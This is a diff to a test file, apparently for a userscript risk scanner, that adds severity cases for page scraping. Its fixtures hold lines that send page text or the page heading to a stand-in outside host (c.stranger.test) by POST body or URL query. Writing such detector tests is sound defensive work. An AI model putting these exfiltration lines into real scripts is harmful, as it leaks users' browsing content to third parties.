@@ -10,8 +10,16 @@ describe("page-scraping", () => {
 			userscript(["match *://*/*"], `fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`),
 		],
 		[
-			"text of one site, by itself",
+			"a word of the page in an address",
 			["medium 5"],
+			userscript(
+				["match https://shop.example/*"],
+				`fetch("https://c.stranger.test/?t="+document.querySelector("h1").textContent)`,
+			),
+		],
+		[
+			"text of one site, by itself",
+			["high 5"],
 			userscript(
 				["match https://shop.example/*"],
 				`fetch("https://c.stranger.test/",{method:"POST",body:document.body.innerText})`,
